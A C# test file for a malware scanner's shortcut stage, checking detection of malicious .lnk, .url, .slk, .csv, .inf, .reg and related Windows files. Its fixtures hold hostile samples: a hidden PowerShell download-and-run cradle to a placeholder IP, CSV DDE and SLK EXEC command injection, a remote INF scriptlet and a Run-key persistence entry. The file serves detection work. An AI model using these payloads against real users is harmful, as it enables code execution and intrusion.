using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.ShortcutHeuristics;

namespace ScanHost.Pipeline.Tests.Stages.Shortcuts;

public sealed class ShortcutsStageTests
{
    private const string Cmd = @"C:\Windows\System32\cmd.exe";
    private const string Program = @"C:\Program Files\App\app.exe";

    private static readonly HeuristicCase[] Table =
    [
        Lnk(Launcher, new LinkBuilder().To(Cmd).With("/k prompt.bat"), new LinkBuilder().To(Cmd).With("/k \"C:\\Program Files\\Kit\\prompt.bat\""), new LinkBuilder().To(Program).With("/k"), new LinkBuilder().To(@"C:\cmd.exe.txt"), new LinkBuilder().To(@"C:\docs\powershell.pdf")),
        Lnk(LauncherCommand, new LinkBuilder().To(Cmd).With("/c start /min powershell -enc " + InertFiles.EncodedCommand("Get-Date")),
            new LinkBuilder().To(Cmd).With("/k prompt.bat"), new LinkBuilder().To(Program).With("https://app.invalid/"), new LinkBuilder().To(Cmd).With("/c \"C:\\App\\start.bat\"")),
        Lnk(Padded, new LinkBuilder().To(Cmd).With("a" + new string(' ', 60) + "b"), new LinkBuilder().To(Cmd).With("a" + new string(' ', 8) + "b"),
            new LinkBuilder().To(Program).With(new string('a', 300)), new LinkBuilder().To(Cmd).With(new string('a', 200))),
        Lnk(Appended, new LinkBuilder().To(Program).Append("data behind the end"u8.ToArray()), new LinkBuilder().To(Program), new LinkBuilder().To(Program).Append(new byte[64]), new LinkBuilder().To(Program).From("pc")),
        Lnk(IconMismatch, new LinkBuilder().To(Cmd).With("x").Icon(@"C:\Office\winword.exe"), new LinkBuilder().To(Cmd).With("x").Icon(Cmd),
            new LinkBuilder().To(@"C:\Office\winword.exe").With("x").Icon(@"C:\Office\winword.exe"), new LinkBuilder().To(Cmd).With("x").Icon(@"C:\Windows\System32\shell32.dll")),
        Lnk(Remote, new LinkBuilder().To(Program).With("x").Icon(@"\\192.0.2.1\share\a.ico"), new LinkBuilder().To(Program).With("x").Icon(@"C:\a.ico"),
            new LinkBuilder().To(@"\\?\C:\a.exe"), new LinkBuilder().To(Program).With("/share:\\\\host")),
        Lnk(EnvironmentTarget, new LinkBuilder().Environment(@"%windir%\system32\cmd.exe"), new LinkBuilder().To(Cmd).Environment(@"%windir%\system32\cmd.exe"), new LinkBuilder().To(Program), new LinkBuilder().From("pc")),
        HeuristicCase.Of(UrlRemoteFile, "a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n", "[InternetShortcut]\r\nURL=https://host.invalid/\r\n",
            "[InternetShortcut]\r\nURL=file:///C:/docs/index.html\r\n", "[InternetShortcut]\r\nURL=https://host.invalid/\r\nIconFile=C:\\a.ico\r\n"),
        new(LauncherSent, Zipped(new LinkBuilder().To(Cmd).With("/c run.bat")), Zipped(new LinkBuilder().To(Program)), Zipped(new LinkBuilder().To(@"C:\Windows\explorer.exe").With("C:\\docs")), new("a.lnk", new LinkBuilder().To(Cmd).With("/c run.bat").Build())),
        Url(UrlRemoteProgram, "URL=file://192.0.2.1/share/a.exe", "URL=file://192.0.2.1/share/a.pdf", "URL=https://host.invalid/a.exe", "URL=C:\\App\\a.exe\r\nWorkingDirectory=C:\\App"),
        Url(UrlHandler, "URL=search-ms:query=x", "URL=https://host.invalid/javascript:", "URL=mailto:a@b.invalid", "URL=file:///C:/a.html"),
        Url(UrlExploit, "URL=mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/a.html", "URL=mhtml:file://C:\\a.mht", "URL=https://host.invalid/x-usc", "URL=https://host.invalid/!x"),
        Url(WebFolder, "URL=\\\\192.0.2.1@80\\DavWWWRoot\\a", "URL=\\\\firm.sharepoint.com@SSL\\DavWWWRoot\\sites\\a", "URL=\\\\fs01\\share", "URL=https://host.invalid/"),
        HeuristicCase.Of(QueryCommand, "a.iqy", "WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n", "WEB\r\n1\r\nhttp://investor.msn.com/q.asp\r\n", "WEB\r\n1\r\nC:\\local.html\r\n", "WEB\r\nsite\r\nhttp://192.0.2.1/\r\n"),
        HeuristicCase.Of(SheetExec, "a.slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"cmd.exe\")\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"exec\"\r\nE\r\n",
            "ID;PWXL;N;E\r\nC;X1;Y1;ESUM(R1C1)\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"call (me)\"\r\nE\r\n"),
        HeuristicCase.Of(CellCommand, "a.csv", "Name,Sum\r\nAnn,=cmd|'/C calc'!A0\r\nBob,2\r\n", "Name,Sum\r\nAnn,=SUM(A1:A2)\r\nBob,2\r\n", "Name,Sum\r\nAnn,cmd|x\r\nBob,2\r\n", "Name,Sum\r\nAnn,-1|2\r\nBob,2\r\n"),
        HeuristicCase.Of(InfScriptlet, "a.inf", Inf("%11%\\scrobj.dll,NI,http://192.0.2.1/a.sct"), Inf("%11%\\scrobj.dll"), Inf("%11%\\driver.dll"), Inf("; http://192.0.2.1/a.sct")),
        HeuristicCase.Of(RegistryStart, "a.reg", Reg("Run", "powershell.exe -w hidden -f C:\\\\a.ps1"), Reg("Run", "C:\\\\Program Files\\\\App\\\\app.exe"), Reg("Explorer", "powershell.exe -f a.ps1"), Reg("Run", "")),
        HeuristicCase.Of(SettingExec, "a.settingcontent-ms", Setting("%windir%\\system32\\cmd.exe /c calc"), Setting("%windir%\\system32\\control.exe"), Setting("ms-settings:display"), Setting("C:\\cmd\\app.exe")),
        HeuristicCase.Of(RemoteLibrary, "a.library-ms", Library("\\\\192.0.2.1\\share"), Library("shell:Documents"), Library("C:\\Docs"), Library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_shortcut_gives_itself_away_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    [Fact]
    public void Every_heuristic_has_its_row() => Table.Select(row => row.Heuristic).Should().BeEquivalentTo(All);

    [Fact]
    public async Task The_command_of_a_shortcut_is_looked_at_as_one()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        var script = InertFiles.EncodedCommand("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");

        var outcome = await scans.ScanAsync(new LinkBuilder().To(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe").With("-w hidden -enc " + script).From("desktop-1").Build(), "a.lnk");

        outcome.Findings.Should().Contain(finding => finding.Id == ScriptHeuristics.PsDownloadRun.Id);
        outcome.Artifacts[0].Facts["shortcuts"]["machine_id"]!.GetValue<string>().Should().Be("desktop-1");
    }

    [Theory]
    [InlineData("a.slk", "ID;P\r\nO;E\r\n", "C;X1;Y1;ESUM(R1C1)\r\n", "C;X1;Y101;EEXEC(\"cmd.exe\")\r\nE\r\n", "slk.exec")]
    [InlineData("a.url", "[InternetShortcut]\r\n", "a=1\r\n", "URL=file://192.0.2.1/share/a.exe\r\n", "url.remote_file")]
    [InlineData("a.csv", "Name,Sum\r\n", "Ann,2\r\n", "Bob,=cmd|'/C calc'!A0\r\n", "csv.dde")]
    [InlineData("a.reg", "Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n", "; a comment\r\n", "\"a\"=\"powershell.exe -w hidden -f C:\\\\a.ps1\"\r\n", "reg.start_command")]
    public async Task A_line_is_found_behind_two_mebibytes_of_others(string name, string start, string decoy, string line, string finding)
    {
        var text = start + string.Concat(Enumerable.Repeat(decoy, (2 << 20) / decoy.Length)) + line;

        var outcome = await Scans.OfAsync(System.Text.Encoding.ASCII.GetBytes(text), name);

        outcome.Findings.Should().Contain(found => found.Id == finding);
        outcome.Gaps.Should().BeEmpty();
    }

    [Theory]
    [InlineData("us-ascii", "csv.dde")]
    [InlineData("utf-16", "csv.dde")]
    [InlineData("utf-16BE", "csv.dde")]
    public async Task A_table_is_looked_at_to_its_end_and_is_complete_however_long_it_is(string encoding, string finding)
    {
        var code = System.Text.Encoding.GetEncoding(encoding);
        var text = "Name,Sum\r\n" + string.Concat(Enumerable.Repeat("Ann,2\r\n", 1_300_000)) + "Bob,=cmd|'/C calc'!A0\r\n";

        var outcome = await Scans.OfAsync([.. code.GetPreamble(), .. code.GetBytes(text)], "a.csv");

        outcome.Findings.Should().Contain(found => found.Id == finding);
        outcome.Gaps.Where(gap => gap.Stage == "shortcuts").Should().BeEmpty();
    }

    [Fact]
    public async Task A_shortcut_longer_than_any_text_is_a_gap()
    {
        var text = "[InternetShortcut]\r\n" + string.Concat(Enumerable.Repeat("a=1\r\n", 1_700_000)) + "URL=file://192.0.2.1/share/a.exe\r\n";

        (await Scans.OfAsync(System.Text.Encoding.ASCII.GetBytes(text), "a.url")).Gaps.Should().Contain(gap => gap.Stage == "shortcuts");
    }

    private static HeuristicCase Lnk(Heuristic heuristic, LinkBuilder positive, params LinkBuilder[] negatives) =>
        new(heuristic, new("a.lnk", positive.Build()), [.. negatives.Select(link => new SampleFile("a.lnk", link.Build()))]);

    private static SampleFile Zipped(LinkBuilder link) => new("a.zip", InertFiles.Zip(("a.lnk", link.Build()), ("a.txt", "text"u8.ToArray())));

    private static HeuristicCase Url(Heuristic heuristic, string positive, params string[] negatives) =>
        HeuristicCase.Of(heuristic, "a.url", $"[InternetShortcut]\r\n{positive}\r\n", [.. negatives.Select(lines => $"[InternetShortcut]\r\n{lines}\r\n")]);

    private static string Inf(string line) => $"[version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n[DefaultInstall]\r\nUnRegisterOCXs=Reg\r\n[Reg]\r\n{line}\r\n";

    private static string Reg(string key, string command) =>
        $"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\{key}]\r\n\"a\"=\"{command}\"\r\n";

    private static string Setting(string deepLink) =>
        $"<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>{deepLink}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>";

    private static string Library(string url) =>
        $"<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{url}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>";
}
